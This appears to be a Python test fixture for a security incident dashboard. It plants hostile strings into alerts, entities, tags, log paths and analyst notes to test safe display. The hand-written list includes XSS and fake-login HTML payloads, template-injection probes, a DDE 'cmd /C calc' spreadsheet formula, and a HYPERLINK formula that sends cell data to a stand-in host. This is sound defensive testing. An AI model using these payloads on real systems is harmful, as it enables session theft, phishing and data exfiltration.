"""What attackers write, from public lists and by hand, and a store where it stands in every field of theirs."""

from __future__ import annotations

import json
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final

import pyarrow as pa
from making import somebody
from sqlalchemy import insert, update

from warroom.enrich.envelope import Origin, add_envelope
from warroom.incidents import actions
from warroom.incidents.grouping import group
from warroom.model import CORE
from warroom.store import manifest
from warroom.store.segments import write_segment
from warroom.store.tables import alert_minutes, alerts, content_faults, feed_states, incidents, leases

if TYPE_CHECKING:
    from warroom.store.database import State

SAMPLES: Final = Path(__file__).parent.parent / "samples" / "payloads"
#: A host of nobody (RFC 5737): whoever asks it for something was tricked.
NOBODY: Final = "203.0.113.250"
#: Payloads of one incident: its screen lists so many entities.
TOGETHER: Final = 50

BY_HAND: Final = (
    f"![beacon](http://{NOBODY}/md.png)",
    f"[click](http://{NOBODY}/) <http://{NOBODY}/auto>",
    f"[click](javascript:alert(1)) [![x](http://{NOBODY}/y.svg)](//{NOBODY})",
    f"<link rel=stylesheet href=//{NOBODY}/a.css><style>@import '//{NOBODY}/b.css';body{{display:none}}</style>",
    f"<form action=http://{NOBODY}/><input name=password autofocus><button>Sign in again</button></form>",
    f"<base href=//{NOBODY}/><meta http-equiv=refresh content='0;url=//{NOBODY}/'>",
    f"<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><object data=//{NOBODY}/o></object>",
    f'" onmouseover="alert(1)" style="background:url(//{NOBODY}/c.png)" x="',
    "</code></li></ul></div></section></main><h1>Your session has expired</h1><!--",
    "</textarea></title></style></script></template><svg/onload=alert(1)>",
    "]]><!--><script>alert(1)</script>",
    ":material/delete: :red[**broken**] :streamlit: $\\href{javascript:alert(1)}{x}$ `code`",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{7*7} <%= 7*7 %> {0.__class__} {words} %s %(x)s",
    '=HYPERLINK("http://203.0.113.250/?"&A1,"ok")',
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "admin\u202egnp.exe\u202c",
    "\u2066\u2067isolate\u2069\u2069 \u200fright \u200eleft \u061carabic",
    "zero\u200bwidth\u200cnon\u2060joiner\ufeffmark soft\u00adhyphen",
    "tags\U000e0068\U000e0069\U000e007f variation\ufe0f private\ue000 unassigned\u0378",
    "\u2028line separator\u2029paragraph separator\u0085next line",
    "\x1b[31mred\x1b[0m \x1b]8;;http://203.0.113.250/\x07link\x1b]8;;\x07 \x9b31m",
    "bell\x07 back\x08space carriage\rreturn delete\x7f",
    "e" + "\u0301" * 300,
    "ก" + "้" * 300,
    "W" * 6_000,
    "𓀀" * 500,
    "<" * 3_000,
    "{" * 2_000,
    "--><img src=x onerror=alert(1)>" * 60,
)
#: What no UTF-8 text can hold: the byte zero of C's strings, halves of UTF-16's pairs.
BROKEN: Final = ("nul\x00byte", "half \ud800 of a pair", "\udfff")


def payloads() -> list[str]:
    """Give every payload: those of the public lists, one a line, then those by hand."""
    lines = [
        line
        for path in sorted(SAMPLES.glob("*.txt"))
        for line in path.read_text(encoding="utf-8").split("\n")
        if line.strip()
    ]
    return [*dict.fromkeys([*BY_HAND, *lines])]


@dataclass(frozen=True)
class Planted:
    """An incident and the payloads that stand in its alerts, entities, events and log."""

    incident: int
    payloads: tuple[str, ...]


def plant(state: State, data_dir: Path) -> list[Planted]:
    """Put every payload into a store that has feeds; gives the incidents, one for so many payloads."""
    every = payloads()
    now = datetime.now(UTC)
    made = [
        _plant_some(state, data_dir, tuple(every[at : at + TOGETHER]), number, now)
        for number, at in enumerate(range(0, len(every), TOGETHER))
    ]
    with state.write("feeds", "alerts", "content", "incidents") as connection:
        told = " ".join(BY_HAND[:26])
        connection.execute(update(feed_states).values(error=told))
        # Somebody at work for an hour: on the wall there is room for one banner.
        connection.execute(update(leases).values(renewed_at=int(now.timestamp() + 3600) * 1_000_000))
        for line, payload in enumerate(BY_HAND):
            connection.execute(insert(content_faults).values(file=payload[:200], line=line, reason=payload))
        minute = int(now.timestamp()) // 60
        for payload in BY_HAND[:20]:
            connection.execute(
                insert(alert_minutes).values(minute=minute, platform_id=payload, severity="high", count=3)
            )
        connection.execute(update(incidents).where(incidents.c.id == made[0].incident).values(platform_id=BY_HAND[0]))
    return made


def _plant_some(state: State, data_dir: Path, some: tuple[str, ...], number: int, now: datetime) -> Planted:
    at = now - timedelta(minutes=1)
    at_us = int(at.timestamp() * 1_000_000)
    count = len(some)
    first_id = ((at_us // 1000) << 20) + 500_000 + number * 1000
    ids = pa.array(range(first_id, first_id + count), pa.int64())
    times = pa.array([at + timedelta(milliseconds=index) for index in range(count)], pa.timestamp("us", tz="UTC"))
    columns: dict[str, Any] = {"ts": times} | {name: pa.nulls(count, kind) for name, kind in CORE.items()}
    for name, kind in CORE.items():
        if pa.types.is_string(kind) or pa.types.is_large_string(kind):
            columns[name] = pa.array(some, kind)
    columns["fields"] = pa.array([{payload: payload} for payload in some])
    # The oldest is the one whose line is written out: it holds all of them, and bytes that are no text.
    whole = "\n".join(some).encode() + b"\x00\xff\xfe\xed\xa0\x80"
    columns["raw"] = pa.array([whole, *(payload.encode() for payload in some[1:])], pa.binary())
    columns["fields"] = pa.array([dict(zip(some[:58], some[:58], strict=True)), *({one: one} for one in some[1:])])
    batch = pa.RecordBatch.from_arrays(list(columns.values()), names=list(columns))
    path = "/var/log/" + " ".join(payload[:80] for payload in some[:40])
    origin = Origin("tang_rat_api", "gdx", "nginx", None, None, "source", path)
    events = add_envelope(batch, origin, pa.array(range(count), pa.int64()), ids, now, timedelta(minutes=10))
    segment = write_segment(data_dir, "events", "tang_rat_api", events, times=times, ids=ids)
    common = ["address", f"198.51.100.{100 + number}"]
    with state.write("alerts") as connection:
        manifest.add(connection, [segment])
        for index, payload in enumerate(some):
            connection.execute(
                insert(alerts).values(
                    id=f"{900 + number:032x}{index:032x}",
                    rule_id=f"11111111-1111-4111-8111-{900 + number:012d}",
                    rule_title=payload,
                    rule_title_th=payload if index % 2 else "",
                    severity="critical",
                    platform_id="gdx",
                    feed_id="tang_rat_api",
                    first_at=at_us + index,
                    last_at=at_us + index,
                    raised_at=at_us + index,
                    count=1,
                    # JSON, as the pipeline writes it, can hold what UTF-8 cannot
                    entities=json.dumps([common, ["user", payload], ["device", f"{BROKEN[0]} {number}"]]),
                    event_ids=json.dumps([first_id + index]),
                    tags=json.dumps(["attack.t1190", f"attack.t{payload}", f"attack.t{BROKEN[1]}"]),
                    drill=False,
                    waiting=True,
                )
            )
    group(state, timedelta(minutes=60))
    with state.read() as connection:
        made = connection.execute(
            alerts.select().where(alerts.c.rule_id == f"11111111-1111-4111-8111-{900 + number:012d}").limit(1)
        ).one()
    incident: int = made.incident_id
    for payload in some:
        writer = somebody(payload.encode("utf-8", "replace").decode()[:90])
        actions.note(state, incident, writer, payload)
    actions.assign(state, incident, somebody(some[0][:90]), some[0][:90])
    return Planted(incident, some)
